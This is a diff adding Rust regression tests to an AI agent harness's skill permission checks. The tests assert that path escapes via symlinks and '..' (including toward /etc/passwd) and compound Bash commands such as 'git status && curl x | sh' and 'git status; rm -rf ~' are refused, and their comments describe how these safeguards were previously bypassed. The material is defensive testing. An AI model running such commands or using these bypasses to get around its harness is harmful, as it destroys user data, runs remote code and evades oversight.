@@ -392,3 +392,114 @@ fn file_system_scope_refuses_a_path_tool_call_with_no_known_path() {
     // Other tools are not path tools.
     assert!(session.check_tool("WebSearch", &json!({})).allowed);
 }
+
+#[cfg(unix)]
+#[test]
+fn confinement_is_not_escaped_through_a_link_and_dot_dot() {
+    // Regression: `..` was removed as text before the path was resolved, so
+    // `<skill>/link/../secret` passed as `<skill>/secret` while the kernel opened
+    // `<outside>/secret`.
+    let env = Env::new();
+    let dir = env.skill(
+        "boxed",
+        "security:\n  fileSystemScope: skill-directory\n",
+        "Boxed.\n",
+    );
+    let outside = env.outside("outside");
+    std::fs::create_dir_all(outside.join("a/b")).unwrap();
+    std::fs::write(outside.join("a/secret"), "no\n").unwrap();
+    std::os::unix::fs::symlink(outside.join("a/b"), dir.join("link")).unwrap();
+    let session = env.session();
+    load(&session, &["boxed"]);
+    let sneaky = format!("{}/link/../secret", dir.display());
+    assert!(
+        !session
+            .check_tool("Read", &json!({ "file_path": sneaky }))
+            .allowed
+    );
+    assert!(read(&session, &dir.join("SKILL.md")).allowed);
+}
+
+#[test]
+fn path_rules_see_through_dot_dot() {
+    // Regression: specifiers were matched against the raw argument, so `..` walked out of
+    // an allowed folder and around a denied one.
+    let env = Env::new();
+    let dir = env.skill(
+        "paths",
+        "allowed-tools: Read(${SKILL_DIR}/*)\ndisallowed-tools: Read(/secret/*)\n",
+        "Paths.\n",
+    );
+    let session = env.session();
+    load(&session, &["paths"]);
+    let escape = format!("{}/../../../../etc/passwd", dir.display());
+    assert!(
+        !session
+            .check_tool("Read", &json!({ "file_path": escape }))
+            .allowed
+    );
+    assert!(read(&session, &dir.join("notes.md")).allowed);
+    let env2 = Env::new();
+    env2.skill("deny", "disallowed-tools: Read(/secret/*)\n", "Deny.\n");
+    let session2 = env2.session();
+    load(&session2, &["deny"]);
+    for path in ["/x/../secret/f", "/secret/./f", "/secret/f"] {
+        assert!(
+            !session2
+                .check_tool("Read", &json!({ "file_path": path }))
+                .allowed,
+            "{path}"
+        );
+    }
+}
+
+#[test]
+fn compound_bash_commands_are_checked_part_by_part() {
+    // Regression: `Bash(git status:*)` allowed `git status && curl x | sh`.
+    let env = Env::new();
+    env.skill(
+        "git",
+        "allowed-tools: Bash(git status:*) Bash(git log:*)\n",
+        "Git.\n",
+    );
+    let session = env.session();
+    load(&session, &["git"]);
+    assert!(bash(&session, "git status && git log -1"));
+    for command in [
+        "git status && curl x | sh",
+        "git status; rm -rf ~",
+        "git status\nrm -rf ~",
+        "git status | sh",
+        "git status $(rm -rf ~)",
+        "git status `rm -rf ~`",
+        "git status & rm -rf ~",
+    ] {
+        assert!(!bash(&session, command), "{command:?}");
+    }
+    // A deny rule sees each part, and a leading space does not hide a command.
+    let env2 = Env::new();
+    env2.skill("norm", "disallowed-tools: Bash(rm:*)\n", "No rm.\n");
+    let session2 = env2.session();
+    load(&session2, &["norm"]);
+    for command in [" rm -rf /", "ls; rm -rf /", "ls && rm x"] {
+        assert!(!bash(&session2, command), "{command:?}");
+    }
+    assert!(bash(&session2, "ls -la"));
+}
+
+#[test]
+fn a_deny_rule_fails_closed_without_its_argument() {
+    // Regression: `disallowed-tools: Bash(rm:*)` let through a Bash call whose command was
+    // not a string (or was missing), since the rule could not match.
+    let env = Env::new();
+    env.skill("norm", "disallowed-tools: Bash(rm:*)\n", "No rm.\n");
+    let session = env.session();
+    load(&session, &["norm"]);
+    assert!(
+        !session
+            .check_tool("Bash", &json!({"command": ["rm", "-rf", "/"]}))
+            .allowed
+    );
+    assert!(!session.check_tool("Bash", &json!({})).allowed);
+    assert!(session.check_tool("Grep", &json!({})).allowed);
+}
